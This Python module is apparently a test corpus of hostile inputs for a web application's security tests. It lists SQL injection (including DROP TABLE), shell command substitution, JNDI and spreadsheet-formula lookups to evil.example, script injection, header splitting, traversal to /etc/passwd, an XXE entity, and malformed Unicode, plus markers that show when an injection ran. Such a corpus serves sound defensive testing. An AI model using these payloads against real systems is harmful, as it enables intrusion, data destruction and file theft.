"""What a stranger may put into any field, header or part of an address."""

from __future__ import annotations

from collections.abc import Mapping

MARK = "x7f3a"
CORPUS: Mapping[str, str] = {
    # SQL
    "sql quote": f"' OR '1'='1' -- {MARK}",
    "sql stacked": f"1); DROP TABLE trials_study; -- {MARK}",
    "sql sleep": "1' AND (SELECT 1 FROM pg_sleep(9)) IS NOT NULL --",
    "sql like": "%_%_%_%_%_%_%_%",
    "sql tsquery": "a & | ! <-> :* ( ) ''",
    "sql array": "{1,2,NULL}",
    # templates, shells, formulas, formats
    "jinja": "{{7919*7907}}{% for a in b %}",
    "format": "%s%n%(a)s{0}{a.__class__}",
    "shell": f"$(id);`id`|id&&id {MARK}",
    "formula": '=HYPERLINK("https://evil.example")',
    "jndi": "${jndi:ldap://evil.example/a}",
    # markup
    "tag": f"<{MARK}><script>alert(1)</script>",
    "attribute": f'"onmouseover="{MARK}()" \'onfocus=\'{MARK}()',
    "svg": f"</title></textarea><svg/onload={MARK}()>",
    "scheme": f"javascript:{MARK}()",
    "comment": "--><!--]]><![CDATA[",
    # headers and hosts
    "crlf": "a\r\nX-Injected: 1\r\n\r\n<html>",
    "lf": "a\nSet-Cookie: injected=1",
    "elsewhere": "//evil.example/%2f..",
    "backslash": "/\\evil.example",
    # paths
    "climbing": "../../../../etc/passwd",
    "climbing encoded": "..%2f..%2f..%2fetc%2fpasswd",
    "file": "file:///etc/passwd",
    "windows": "..\\..\\windows\\win.ini",
    # Unicode
    "null": "a\x00b",
    "controls": "".join(map(chr, range(1, 32))),
    "bidi": "\u202eabc\u2066def\u2069\u200f",
    "encoded twice": "a%ED%A0%80b%00%3Cscript%3Ealert(1)",
    "unseen": "\u200b\ufeff\u00ad\u2028\u2029",
    "normal forms": "ﬁ①Å\u0041\u030aΩ\u1e9e\u0130",
    "expanding": "\ufdfa" * 300,
    "combining": "e" + "\u0301" * 3000,
    "astral": "\U0001f9ec\U0010ffff\ufffe",
    "digits of elsewhere": "１２３٤٥٦",
    # numbers and dates
    "negative": "-1",
    "zero": "0",
    "huge number": "9" * 400,
    "exponent": "1e309",
    "not a number": "NaN",
    "date too far": "99999-12-31",
    "date out of range": "0000-00-00",
    "thirtieth of February": "2026-02-30",
    "week date": "2026-W53-7",
    # size
    "long": "A" * 20_000,
    "many words": "stem cell " * 2_000,
    "many quotes": "\"'" * 5_000,
    "many brackets": "(" * 8_000 + "[" * 8_000,
    "many commas": "NCT90000001," * 2_000,
    "many dashes": "a-" * 10_000,
    # shapes
    "json": '{"$gt":"","__proto__":{"a":1}}',
    "xml entity": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "pickle": "gASVAAAAAAAAAACMBXBvc2l4",
    "signed": "eyJhIjoxfQ:1abcde:AAAAAAAAAAAAAAAAAAAAAAAAAAA",
}
SMALL: Mapping[str, str] = {name: value for name, value in CORPUS.items() if len(value) < 500}

RAW_BYTES: Mapping[str, str] = {
    "overlong dots": "%C0%AE%C0%AE%C0%AF",
    "overlong null": "a%C0%80b",
    "overlong tag": "%C0%BCscript%C0%BEalert(1)",
    "surrogate": "a%ED%A0%80b",
    "surrogate pair": "%ED%A0%BD%ED%B8%80",
    "half a sign": "a%E2%82",
    "beyond Unicode": "%F4%90%80%80",
    "no UTF-8": "%FF%FE",
    "UTF-7": "+ADw-script+AD4-alert(1)",
    "no code": "%zz%u0041%",
}
"""What UTF-8 forbids, and browsers never send, as it stands in an address or a body."""

EXECUTED = (
    f"<{MARK}",
    "<script>alert",
    '"onmouseover="x',
    "'onfocus='x",
    "<svg/onload",
    f'href="javascript:{MARK}',
    "62615533",  # 7919 * 7907
    "root:x:0",
)
"""What no HTML page may hold as it came."""
